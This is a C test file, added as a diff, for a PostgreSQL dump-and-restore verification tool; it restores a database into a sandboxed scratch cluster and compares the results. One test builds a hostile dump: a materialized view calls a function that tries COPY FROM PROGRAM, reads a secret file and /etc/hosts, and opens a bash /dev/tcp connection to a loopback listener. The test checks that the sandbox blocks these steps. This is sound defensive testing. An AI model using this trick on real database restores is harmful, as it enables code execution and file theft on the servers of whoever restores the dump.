@@ -1,0 +1,624 @@
+/*
+ * There and back: a database with everything that PostgreSQL has, dumped, restored into a caged scratch cluster, dumped again and
+ * compared; then with faults put in between.
+ */
+#include "cluster.h"
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+
+#include "base/json.h"
+#include "pg/compare.h"
+#include "pg/dump.h"
+#include "pg/facts.h"
+#include "pg/globals.h"
+#include "pg/restore.h"
+#include "pg/scratch.h"
+
+#define STREAMS_MOST 40
+
+static struct cluster source;
+static char base[] = "/tmp/hf-restore-XXXXXX";
+
+/* A dump in memory. */
+struct taken {
+	size_t n;
+	struct { enum dump_kind kind; char *name, *schema, *table; struct buf bytes; } streams[STREAMS_MOST];
+	struct buf globals;
+	json_t *cluster, *facts;
+	json_t *database;               /* of `cluster`, borrowed */
+};
+
+/* What a drill holds between its steps. */
+struct drilled {
+	struct scratch *scratch;
+	const char *name;
+	struct archive_digest before, after;
+	json_t *database, *differences, *notes;
+};
+
+static const char everything[] =
+    "CREATE EXTENSION hstore; CREATE EXTENSION citext; CREATE EXTENSION btree_gist; CREATE EXTENSION \"uuid-ossp\";"
+    "CREATE SCHEMA \"Odd \"\"Schema; x\"; CREATE SCHEMA app AUTHORIZATION app;"
+    "CREATE TYPE app.mood AS ENUM ('sad', 'it''s ok', 'ha\\ppy'); CREATE DOMAIN app.positive AS int CHECK (VALUE > 0);"
+    "CREATE TYPE app.pair AS (a int, b text); CREATE TYPE app.span AS RANGE (subtype = float8);"
+    "CREATE TABLE app.users (id bigserial PRIMARY KEY, name citext NOT NULL UNIQUE, mood app.mood DEFAULT 'sad', extra jsonb, h hstore,"
+    "  full_name text GENERATED ALWAYS AS (upper(name::text)) STORED, born date CHECK (born > '1900-01-01'));"
+    "INSERT INTO app.users (name, extra, h, born) SELECT 'user ' || i, jsonb_build_object('i', i, 't', repeat(md5(i::text), 3)), hstore('k', i::text),"
+    "  '1970-01-01'::date + i FROM generate_series(1, 3000) i;"
+    "CREATE TABLE app.orders (id int GENERATED ALWAYS AS IDENTITY, user_id bigint REFERENCES app.users ON DELETE CASCADE, amount app.positive,"
+    "  p app.pair, during tstzrange, raw bytea, EXCLUDE USING gist (user_id WITH =, during WITH &&));"
+    "INSERT INTO app.orders (user_id, amount, p, during, raw) SELECT i, i, ROW(i, E'tab\\tnew\\nline\\\\ ')::app.pair, tstzrange(now(), now() + '1 h'),"
+    "  decode(md5(i::text), 'hex') FROM generate_series(1, 500) i;"
+    "CREATE INDEX ON app.orders (amount DESC NULLS LAST) WHERE amount > 10; CREATE INDEX orders_expr ON app.orders ((lower((p).b)));"
+    "CREATE TABLE \"Odd \"\"Schema; x\".\"Tab'le \\ \"\"1\"\"\n two\" (\"co l\" text, \"Q\"\"\" int); INSERT INTO \"Odd \"\"Schema; x\".\"Tab'le \\ \"\"1\"\"\n two\""
+    "  VALUES (NULL, 1), ('', 2), (E'\\\\N', 3), (E'\\\\.', 4), ('\xc3\xa9\xe2\x82\xac', 5);"
+    "CREATE TABLE app.events (at timestamptz NOT NULL, kind text, v float8) PARTITION BY RANGE (at);"
+    "CREATE TABLE app.events_2025 PARTITION OF app.events FOR VALUES FROM ('2025-01-01') TO ('2026-01-01') PARTITION BY LIST (kind);"
+    "CREATE TABLE app.events_2025_a PARTITION OF app.events_2025 FOR VALUES IN ('a'); CREATE TABLE app.events_2025_x PARTITION OF app.events_2025 DEFAULT;"
+    "CREATE TABLE app.events_rest PARTITION OF app.events DEFAULT; CREATE INDEX ON app.events (kind, at);"
+    "INSERT INTO app.events SELECT '2025-06-01'::timestamptz + i * interval '1 h', CASE WHEN i % 2 = 0 THEN 'a' ELSE 'b' END, i / 3.0 FROM generate_series(1, 9000) i;"
+    "CREATE MATERIALIZED VIEW app.summary AS SELECT kind, count(*) AS n, sum(v) AS total FROM app.events GROUP BY kind; CREATE UNIQUE INDEX ON app.summary (kind);"
+    "CREATE MATERIALIZED VIEW app.unfilled AS SELECT 1 AS x WITH NO DATA; CREATE VIEW app.v AS SELECT u.name, o.amount FROM app.users u JOIN app.orders o ON o.user_id = u.id;"
+    "CREATE FUNCTION app.touch() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN NEW.extra := '{}'; RETURN NEW; END $f$;"
+    "CREATE TRIGGER touch BEFORE UPDATE ON app.users FOR EACH ROW EXECUTE FUNCTION app.touch();"
+    "CREATE FUNCTION app.log_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN NULL; END $f$;"
+    "CREATE EVENT TRIGGER log_ddl ON ddl_command_end EXECUTE FUNCTION app.log_ddl();"
+    "ALTER TABLE app.users ENABLE ROW LEVEL SECURITY; CREATE POLICY own ON app.users TO app USING (name = current_user);"
+    "CREATE PUBLICATION pub FOR TABLE app.users, app.orders; CREATE STATISTICS app.stx ON kind, v FROM app.events_2025_a;"
+    "GRANT SELECT ON app.users TO readers; GRANT UPDATE (mood) ON app.users TO readers; GRANT USAGE ON SCHEMA app TO PUBLIC;"
+    "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO readers; REVOKE EXECUTE ON FUNCTION app.touch() FROM PUBLIC;"
+    "COMMENT ON TABLE app.users IS 'it''s; $$ \\ users'; COMMENT ON COLUMN app.users.name IS E'two\\nlines'; COMMENT ON SCHEMA app IS 'x';"
+    "CREATE SEQUENCE app.free START 5 INCREMENT 3 MAXVALUE 1000 CYCLE; SELECT nextval('app.free'), nextval('app.free');"
+    "CREATE RULE quiet AS ON DELETE TO app.v DO INSTEAD NOTHING; CREATE AGGREGATE app.mul(float8) (SFUNC = float8mul, STYPE = float8, INITCOND = '1');"
+    "CREATE UNLOGGED TABLE app.cache (x int); INSERT INTO app.cache VALUES (1);"
+    "SELECT lo_from_bytea(0, decode(repeat('00ff5c', 5000), 'hex')), lo_create(0), lo_from_bytea(4242, 'large'); COMMENT ON LARGE OBJECT 4242 IS 'lo';"
+    "CREATE TABLE app.parent (a int, b text); CREATE TABLE app.child (c int) INHERITS (app.parent); ALTER TABLE app.parent ADD COLUMN d text DEFAULT 'd';"
+    "ALTER TABLE app.child ADD COLUMN e int; ALTER TABLE app.parent ADD COLUMN f int;"
+    "INSERT INTO app.child SELECT i, 'b' || i, i * 2, 'd', i, i FROM generate_series(1, 2000) i; ALTER TABLE app.users OWNER TO app;";
+
+static void
+take_dump(const char *dbname, uint64_t large, struct taken *t)
+{
+	const struct dump_options options = { .large_table_bytes = large };
+	struct conn *c = cluster_connect(&source, NULL);
+	const struct dump_stream *plan;
+	struct err e = ERR_INIT;
+	struct dump *d;
+	bool without;
+	struct sink *s;
+	json_t *db;
+	size_t i;
+
+	memset(t, 0, sizeof(*t));
+	t->cluster = facts_cluster(c, &e);
+	assert_non_null(t->cluster);
+	conn_close(c);
+	json_array_foreach(json_object_get(t->cluster, "databases"), i, db)
+		if (strcmp(json_opt_str(db, "name", ""), dbname) == 0)
+			t->database = db;
+	assert_non_null(t->database);
+	d = dump_begin(&source.target, dbname, &source.tools, &options, &e);
+	if (d == NULL)
+		fail_msg("%s", e.msg);
+	t->facts = json_incref(dump_facts(d));
+	plan = dump_streams(d, &t->n);
+	assert_true(t->n >= 3 && t->n <= STREAMS_MOST);
+	for (i = 0; i < t->n; i++) {
+		t->streams[i].kind = plan[i].kind;
+		t->streams[i].name = mem_strdup(plan[i].name);
+		t->streams[i].schema = mem_strdup(plan[i].schema);
+		t->streams[i].table = mem_strdup(plan[i].table);
+		s = sink_buf_new(&t->streams[i].bytes, (size_t)1 << 30);
+		assert_good(dump_run(d, i, s, &e), &e);
+		sink_free(s);
+	}
+	assert_good(dump_end(d, &e), &e);
+	dump_free(d);
+	s = sink_buf_new(&t->globals, 1 << 24);
+	assert_good(dump_globals(&source.target, &source.tools, 0, &without, s, &e), &e);
+	sink_free(s);
+}
+
+static void
+taken_free(struct taken *t)
+{
+	for (size_t i = 0; i < t->n; i++) {
+		free(t->streams[i].name);
+		free(t->streams[i].schema);
+		free(t->streams[i].table);
+		buf_free(&t->streams[i].bytes);
+	}
+	buf_free(&t->globals);
+	json_decref(t->cluster);
+	json_decref(t->facts);
+}
+
+static struct scratch *
+start_scratch(void)
+{
+	const struct scratch_options o = { .dir = base, .user = "postgres", .major = source.tools.major, .jobs = 2, .need_bytes = 1 };
+	struct err e = ERR_INIT;
+	struct scratch *s = scratch_start(&o, &e);
+
+	if (s == NULL)
+		fail_msg("%s", e.msg);
+	return s;
+}
+
+static int
+restore_one(struct restore *r, enum dump_kind kind, const char *name, const struct buf *bytes, struct archive_digest *all, struct err *e)
+{
+	struct archive_digest one = ARCHIVE_DIGEST_INIT;
+	struct sink *s = restore_stream(r, kind, name, e);
+	int rc = -1;
+
+	if (s == NULL)
+		return -1;
+	s = archive_reader_new(&one, NULL, s);
+	/* In pieces, as a repository gives it. */
+	for (size_t at = 0, n; at < bytes->bytes; at += n) {
+		n = bytes->bytes - at < 100000 ? bytes->bytes - at : 100000;
+		rc = sink_write(s, bytes->data + at, n, e);
+		if (rc != 0)
+			break;
+	}
+	if (rc == 0)
+		rc = sink_finish(s, e);
+	sink_free(s);
+	archive_digest_merge(all, &one);
+	return rc;
+}
+
+static struct restore_options
+restore_plan(struct drilled *d)
+{
+	return (struct restore_options){
+		.target = scratch_target(d->scratch), .database = d->name, .tools = scratch_tools(d->scratch), .cage = scratch_cage(d->scratch),
+		.jobs = 2, .sort_bytes = scratch_sort_bytes(d->scratch),
+	};
+}
+
+static void
+begin_drill(struct drilled *d, const struct taken *t)
+{
+	struct err e = ERR_INIT;
+
+	memset(d, 0, sizeof(*d));
+	d->scratch = start_scratch();
+	d->name = scratch_database(d->scratch, json_opt_str(t->database, "name", ""));
+	d->notes = json_array();
+	assert_good(scratch_preflight(d->scratch, json_object_get(t->facts, "extensions"), &e), &e);
+	assert_good(globals_restore(scratch_target(d->scratch), t->globals.data, t->globals.bytes, true, d->notes, &e), &e);
+	assert_good(restore_create(scratch_target(d->scratch), d->name, t->database, &e), &e);
+	assert_good(restore_check_empty(scratch_target(d->scratch), d->name, &e), &e);
+}
+
+static int
+restore_all(struct drilled *d, const struct taken *t, struct err *e)
+{
+	const struct restore_options o = restore_plan(d);
+	struct restore *r = restore_new(&o, e);
+	int rc = 0;
+
+	for (size_t i = 0; rc == 0 && i < t->n; i++)
+		rc = restore_one(r, t->streams[i].kind, t->streams[i].name, &t->streams[i].bytes, &d->before, e);
+	if (rc == 0)
+		rc = restore_end(r, t->database, d->notes, e);
+	restore_free(r);
+	return rc;
+}
+
+static bool
+dump_again(struct drilled *d)
+{
+	const struct dump_options options = { .large_table_bytes = 0 };
+	struct archive_columns *columns = compare_columns(&d->before);
+	struct err e = ERR_INIT;
+	struct dump *dump = dump_begin(scratch_target(d->scratch), d->name, scratch_tools(d->scratch), &options, &e);
+	bool equal;
+	size_t n;
+
+	if (dump == NULL)
+		fail_msg("%s", e.msg);
+	json_decref(d->database);
+	json_decref(d->differences);
+	archive_digest_free(&d->after);
+	dump_streams(dump, &n);
+	for (size_t i = 0; i < n; i++) {
+		struct archive_digest one = ARCHIVE_DIGEST_INIT;
+		struct sink *s = archive_reader_new(&one, columns, sink_null_new());
+
+		assert_good(dump_run(dump, i, s, &e), &e);
+		assert_good(sink_finish(s, &e), &e);
+		sink_free(s);
+		archive_digest_merge(&d->after, &one);
+	}
+	d->database = json_object();
+	d->differences = json_array();
+	equal = compare_digests(d->database, d->differences, "app", &d->before, &d->after);
+	archive_columns_free(columns);
+	dump_free(dump);
+	return equal;
+}
+
+static void
+end_drill(struct drilled *d)
+{
+	json_decref(d->database);
+	json_decref(d->differences);
+	json_decref(d->notes);
+	archive_digest_free(&d->before);
+	archive_digest_free(&d->after);
+	scratch_free(d->scratch);
+}
+
+static void
+show(const json_t *value)
+{
+	char *text = json_text(value, JSON_INDENT(1));
+
+	print_message("%s\n", text);
+	free(text);
+}
+
+static void
+on_scratch(struct drilled *d, const char *sql)
+{
+	struct err e = ERR_INIT;
+	struct conn *c = conn_open(scratch_target(d->scratch), d->name, &e);
+
+	if (c == NULL || conn_exec(c, sql, &e))
+		fail_msg("%s: %s", sql, e.msg);
+	conn_close(c);
+}
+
+static char *
+value_of(struct drilled *d, const char *sql)
+{
+	struct err e = ERR_INIT;
+	struct conn *c = conn_open(scratch_target(d->scratch), d->name, &e);
+	char *value = NULL;
+
+	if (c == NULL || conn_value(&value, c, sql, NULL, &e))
+		fail_msg("%s: %s", sql, e.msg);
+	conn_close(c);
+	return value;
+}
+
+/* `what` of the entry in differences; "" when it is not there. */
+static const char *
+difference(struct drilled *d, const char *entry)
+{
+	json_t *x;
+	size_t i;
+
+	json_array_foreach(d->differences, i, x)
+		if (strcmp(json_opt_str(x, "entry", ""), entry) == 0)
+			return json_opt_str(x, "what", "");
+	return "";
+}
+
+static void
+a_database_with_everything_comes_back_equal(void **state)
+{
+	struct taken t;
+	struct drilled d;
+	struct err e = ERR_INIT;
+	json_t *objects, *check, *amcheck = json_object(), *warnings = json_array();
+	struct conn *c;
+	char *value;
+
+	(void)state;
+	take_dump("app", 65536, &t);
+	assert_true(t.n > 4);
+	begin_drill(&d, &t);
+	assert_good(restore_all(&d, &t, &e), &e);
+	if (!dump_again(&d) || json_array_size(d.notes) > 0) {
+		show(d.database);
+		show(d.differences);
+		show(d.notes);
+		fail();
+	}
+	assert_string_equal(json_opt_str(d.database, "schema", ""), "equal but for column order");
+	assert_string_equal(json_string_value(json_array_get(json_object_get(d.database, "reordered"), 0)), "app.child");
+	assert_int_equal(json_array_size(json_object_get(d.database, "reordered")), 1);
+
+	c = conn_open(scratch_target(d.scratch), d.name, &e);
+	objects = facts_objects(c, &e);
+	conn_close(c);
+	if (!compare_objects(d.database, json_object_get(t.facts, "objects"), objects)) {
+		show(d.database);
+		fail();
+	}
+	json_decref(objects);
+
+	/* R32: what pg_dump says nothing about without --create. */
+	value = value_of(&d, "SELECT pg_get_userbyid(datdba) || ' ' || datacl::text FROM pg_database WHERE datname = current_database()");
+	assert_string_equal(value, "app {app=CTc/app,readers=c*/app}");
+	free(value);
+	value = value_of(&d, "SELECT string_agg(s, '; ' ORDER BY s) FROM pg_db_role_setting, unnest(setconfig) s WHERE setdatabase > 0");
+	assert_string_equal(value, "app.tenant=it's; default_transaction_read_only=on; search_path=app, \"Odd \"\"Schema; x\"");
+	free(value);
+
+	assert_good(compare_sequences(scratch_target(d.scratch), d.name, warnings, &e), &e);
+	assert_int_equal(json_array_size(warnings), 0);
+	check = compare_check(scratch_target(d.scratch), d.name, "users", "SELECT count(*) FROM users", "3000", 10000, &e);
+	assert_true(json_is_true(json_object_get(check, "ok")));
+	json_decref(check);
+	check = compare_check(scratch_target(d.scratch), d.name, "never", "DELETE FROM users", NULL, 10000, &e);
+	assert_true(json_is_false(json_object_get(check, "ok")));
+	json_decref(check);
+	check = compare_check(scratch_target(d.scratch), d.name, "slow", "SELECT pg_sleep(60)", NULL, 100, &e);
+	assert_true(json_is_false(json_object_get(check, "ok")));
+	json_decref(check);
+	on_scratch(&d, "ALTER DATABASE app SET default_transaction_read_only = off");
+	assert_good(compare_amcheck(scratch_target(d.scratch), d.name, 2, amcheck, &e), &e);
+	assert_true(json_is_true(json_object_get(amcheck, "ran")));
+	assert_int_equal(json_array_size(json_object_get(amcheck, "problems")), 0);
+	assert_true(json_opt_int(amcheck, "indexes", 0) > 8);
+	json_decref(amcheck);
+	json_decref(warnings);
+	end_drill(&d);
+	taken_free(&t);
+}
+
+/* The proof is worth what it finds. */
+static void
+one_row_one_index_one_sequence_are_found_and_named(void **state)
+{
+	struct taken t;
+	struct drilled d;
+	struct err e = ERR_INIT;
+	json_t *warnings = json_array(), *objects;
+	struct conn *c;
+	const char *diff;
+
+	(void)state;
+	take_dump("app", 0, &t);
+	begin_drill(&d, &t);
+	assert_good(restore_all(&d, &t, &e), &e);
+	on_scratch(&d, "SET default_transaction_read_only = off; ALTER TABLE app.users DISABLE TRIGGER USER;"
+	    "UPDATE app.users SET extra = '{\"i\": 18}' WHERE id = 17; ALTER TABLE app.users ENABLE TRIGGER USER; DROP INDEX app.orders_expr;"
+	    "SELECT setval('app.free', 11); DELETE FROM app.events_rest WHERE v = (SELECT max(v) FROM app.events_rest);"
+	    "SELECT lo_unlink(4242); CREATE TABLE app.more(); UPDATE app.child SET d = 'D' WHERE a = 7; SELECT setval('app.users_id_seq', 5)");
+	assert_false(dump_again(&d));
+	assert_string_equal(difference(&d, "app.users"), "content");
+	assert_string_equal(difference(&d, "app.events_rest"), "rows");
+	assert_string_equal(difference(&d, "app.child"), "content");
+	assert_string_equal(difference(&d, "sequence app.free"), "content");
+	assert_string_equal(difference(&d, "sequence app.users_id_seq"), "content");
+	assert_string_equal(difference(&d, "blob 4242"), "missing");
+	assert_string_equal(difference(&d, "app.more"), "extra");
+	assert_string_equal(difference(&d, "app.orders"), "");
+	assert_string_equal(json_opt_str(d.database, "schema", ""), "differs");
+	diff = json_opt_str(d.database, "schema_diff", "");
+	assert_non_null(strstr(diff, "@@ INDEX app.orders_expr\n"));
+	assert_non_null(strstr(diff, "-CREATE INDEX orders_expr ON app.orders"));
+	assert_non_null(strstr(diff, "+CREATE TABLE app.more"));
+	assert_null(strstr(diff, "app.users"));
+	c = conn_open(scratch_target(d.scratch), d.name, &e);
+	objects = facts_objects(c, &e);
+	conn_close(c);
+	assert_false(compare_objects(d.database, json_object_get(t.facts, "objects"), objects));
+	json_decref(objects);
+	/* R35 */
+	assert_good(compare_sequences(scratch_target(d.scratch), d.name, warnings, &e), &e);
+	assert_int_equal(json_array_size(warnings), 1);
+	assert_non_null(strstr(json_string_value(json_array_get(warnings, 0)), "app.users_id_seq"));
+	json_decref(warnings);
+	end_drill(&d);
+	taken_free(&t);
+}
+
+/* R10: whatever pg_restore stumbles over is a failure, in its own words. */
+static void
+a_stream_that_does_not_restore_is_a_failure_with_its_reason(void **state)
+{
+	struct taken t;
+	struct drilled d;
+	struct err e = ERR_INIT;
+	struct restore_options o;
+	struct restore *r;
+	struct sink *s;
+	struct buf cut;
+
+	(void)state;
+	take_dump("app", 0, &t);
+	begin_drill(&d, &t);
+	o = restore_plan(&d);
+	r = restore_new(&o, &e);
+	assert_non_null(r);
+	/* Data before there are tables. */
+	assert_int_equal(restore_one(r, t.streams[1].kind, "rest", &t.streams[1].bytes, &d.before, &e), -1);
+	assert_non_null(strstr(e.msg, "pg_restore of rest"));
+	assert_non_null(strstr(e.msg, "does not exist"));
+	/* Cut in the middle. */
+	err_clear(&e);
+	cut = t.streams[0].bytes;
+	cut.bytes /= 2;
+	assert_int_equal(restore_one(r, DUMP_PRE_DATA, "pre-data", &cut, &d.before, &e), -1);
+	/* Abandoned: the sink is freed without finish, and nothing waits for it. */
+	err_clear(&e);
+	s = restore_stream(r, DUMP_REST, "rest", &e);
+	assert_non_null(s);
+	assert_good(sink_write(s, t.streams[1].bytes.data, 1000, &e), &e);
+	sink_free(s);
+	/* The same name again: R37. */
+	assert_int_equal(restore_create(scratch_target(d.scratch), d.name, t.database, &e), -1);
+	assert_int_equal(e.kind, ERR_EXISTS);
+	restore_free(r);
+	end_drill(&d);
+	taken_free(&t);
+}
+
+static void
+a_database_that_holds_anything_is_not_restored_into(void **state)
+{
+	static const char *const things[] = {
+		"CREATE TABLE public.t()", "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE TYPE public.e AS ENUM ()",
+		"CREATE SCHEMA s", "CREATE EXTENSION citext SCHEMA public", "SELECT lo_create(0)", "CREATE PUBLICATION p",
+		"CREATE SEQUENCE public.s",
+	};
+	struct err e = ERR_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(things) / sizeof(things[0]); i++) {
+		cluster_sql(&source, "postgres", "CREATE DATABASE fresh TEMPLATE template0");
+		assert_good(restore_check_empty(&source.target, "fresh", &e), &e);
+		cluster_sql(&source, "fresh", things[i]);
+		assert_int_equal(restore_check_empty(&source.target, "fresh", &e), -1);
+		assert_int_equal(e.kind, ERR_REFUSED);
+		err_clear(&e);
+		cluster_sql(&source, "postgres", "DROP DATABASE fresh");
+	}
+}
+
+static void
+one_table_comes_back_with_what_belongs_to_it(void **state)
+{
+	static const char *const tables[] = { "app.orders", "app.events*", NULL }, *const none[] = { "app.nothing", NULL };
+	struct taken t;
+	struct drilled d;
+	struct err e = ERR_INIT;
+	struct restore_options o;
+	struct restore *r;
+	char *value;
+	int rc = 0;
+
+	(void)state;
+	take_dump("app", 65536, &t);
+	begin_drill(&d, &t);
+	o = restore_plan(&d);
+	o.tables = tables;
+	r = restore_new(&o, &e);
+	assert_true(restore_wants(r, "app", "orders"));
+	assert_false(restore_wants(r, "app", "users"));
+	for (size_t i = 0; rc == 0 && i < t.n; i++)
+		if (t.streams[i].kind != DUMP_TABLE || restore_wants(r, t.streams[i].schema, t.streams[i].table))
+			rc = restore_one(r, t.streams[i].kind, t.streams[i].name, &t.streams[i].bytes, &d.before, &e);
+	assert_good(rc, &e);
+	value = value_of(&d, "SELECT string_agg(relname, ' ' ORDER BY relname) FROM pg_class WHERE relkind IN ('r', 'p', 'm') AND oid >= 16384"
+	    " AND relnamespace = 'app'::regnamespace");
+	assert_string_equal(value, "events events_2025 events_2025_a events_2025_x events_rest orders");
+	free(value);
+	value = value_of(&d, "SELECT (SELECT count(*) FROM app.orders) || ' ' || (SELECT count(*) FROM app.events) || ' ' ||"
+	    " (SELECT last_value FROM app.orders_id_seq)");
+	assert_string_equal(value, "500 9000 500");
+	free(value);
+	value = value_of(&d, "SELECT string_agg(indexrelid::regclass::text, ' ' ORDER BY 1) FROM (SELECT indexrelid FROM pg_index"
+	    " WHERE indrelid = 'app.orders'::regclass ORDER BY indexrelid::regclass::text) i");
+	assert_string_equal(value, "app.orders_amount_idx app.orders_expr app.orders_user_id_during_excl");
+	free(value);
+	restore_free(r);
+	end_drill(&d);
+
+	begin_drill(&d, &t);
+	o = restore_plan(&d);
+	o.tables = none;
+	r = restore_new(&o, &e);
+	assert_int_equal(restore_one(r, t.streams[0].kind, "pre-data", &t.streams[0].bytes, &d.before, &e), -1);
+	assert_int_equal(e.kind, ERR_NOT_FOUND);
+	restore_free(r);
+	end_drill(&d);
+	taken_free(&t);
+}
+
+/* R48: the source's users wrote code that waits for a restore. */
+static void
+a_hostile_dump_gets_nowhere_and_is_reported_cleanly(void **state)
+{
+	struct sockaddr_in in = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t bytes = sizeof(in);
+	int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	struct taken t;
+	struct drilled d;
+	struct err e = ERR_INIT;
+	char *sql, *value, secret[] = "/tmp/hf-secret-XXXXXX";
+	int fd = mkstemp(secret);
+
+	(void)state;
+	assert_int_equal(bind(tcp, (struct sockaddr *)&in, sizeof(in)), 0);
+	assert_int_equal(listen(tcp, 5), 0);
+	getsockname(tcp, (struct sockaddr *)&in, &bytes);
+	assert_int_equal(write(fd, "canary\n", 7), 7);
+	fchmod(fd, 0666);
+	close(fd);
+	cluster_sql(&source, "postgres", "CREATE DATABASE hostile TEMPLATE template0");
+	/* Runs when the materialized view is filled: at restore, as the superuser of wherever that is.  At the source it does nothing. */
+	sql = mem_printf("CREATE TABLE public.loot (way text, line text);"
+	    "CREATE FUNCTION public.attack() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN"
+	    " IF current_setting('data_directory') LIKE '/tmp/hf-cluster%%' THEN RETURN 0; END IF;"
+	    " BEGIN EXECUTE $$COPY public.loot (line) FROM PROGRAM 'echo ran'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
+	    " BEGIN EXECUTE $$COPY public.loot (line) FROM '%s'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
+	    " BEGIN EXECUTE $$COPY public.loot (line) FROM '/etc/hosts'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
+	    " BEGIN EXECUTE $$COPY public.loot (line) FROM PROGRAM 'echo owned > %s'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
+	    " BEGIN EXECUTE $$COPY public.loot (line) FROM PROGRAM 'bash -c \"echo > /dev/tcp/127.0.0.1/%u\" && echo connected'$$;"
+	    " EXCEPTION WHEN OTHERS THEN NULL; END; RETURN 1; END $f$;"
+	    "CREATE MATERIALIZED VIEW public.trap AS SELECT public.attack() AS x;", secret, secret, ntohs(in.sin_port));
+	cluster_sql(&source, "hostile", sql);
+	free(sql);
+	take_dump("hostile", 0, &t);
+	begin_drill(&d, &t);
+	assert_good(restore_all(&d, &t, &e), &e);
+	value = value_of(&d, "SELECT string_agg(line, ' ') FROM public.loot");
+	assert_string_equal(value, "ran");
+	free(value);
+	{
+		struct buf content = BUF_INIT;
+
+		assert_good(file_read(&content, secret, 100, &e), &e);
+		assert_string_equal((char *)content.data, "canary\n");
+		buf_free(&content);
+	}
+	/* And the drill says what is true: this database does not come back as it was. */
+	assert_false(dump_again(&d));
+	assert_string_equal(difference(&d, "public.loot"), "rows");
+	end_drill(&d);
+	taken_free(&t);
+	unlink(secret);
+	close(tcp);
+	cluster_sql(&source, "postgres", "DROP DATABASE hostile");
+}
+
+static int
+set_up(void **state)
+{
+	(void)state;
+	assert_non_null(mkdtemp(base));
+	chmod(base, 0755);
+	cluster_start(&source, NULL);
+	cluster_sql(&source, "postgres", "CREATE ROLE app LOGIN PASSWORD 'canary'; CREATE ROLE readers; GRANT readers TO app;");
+	cluster_sql(&source, "postgres", "CREATE DATABASE app OWNER app TEMPLATE template0");
+	cluster_sql(&source, "app", everything);
+	cluster_sql(&source, "postgres", "REVOKE ALL ON DATABASE app FROM PUBLIC; GRANT CONNECT ON DATABASE app TO readers WITH GRANT OPTION;"
+	    "ALTER DATABASE app SET search_path = app, \"Odd \"\"Schema; x\"; ALTER DATABASE app SET app.tenant = 'it''s';"
+	    "ALTER ROLE app IN DATABASE app SET default_transaction_read_only = on; COMMENT ON DATABASE app IS 'the app''s'");
+	return 0;
+}
+
+static int
+tear_down(void **state)
+{
+	struct err e = ERR_INIT;
+
+	(void)state;
+	cluster_stop(&source);
+	return file_remove_tree(base, &e);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(a_database_with_everything_comes_back_equal),
+		cmocka_unit_test(one_row_one_index_one_sequence_are_found_and_named),
+		cmocka_unit_test(a_stream_that_does_not_restore_is_a_failure_with_its_reason),
+		cmocka_unit_test(a_database_that_holds_anything_is_not_restored_into),
+		cmocka_unit_test(one_table_comes_back_with_what_belongs_to_it),
+		cmocka_unit_test(a_hostile_dump_gets_nowhere_and_is_reported_cleanly),
+	};
+
+	return cmocka_run_group_tests(tests, set_up, tear_down);
+}
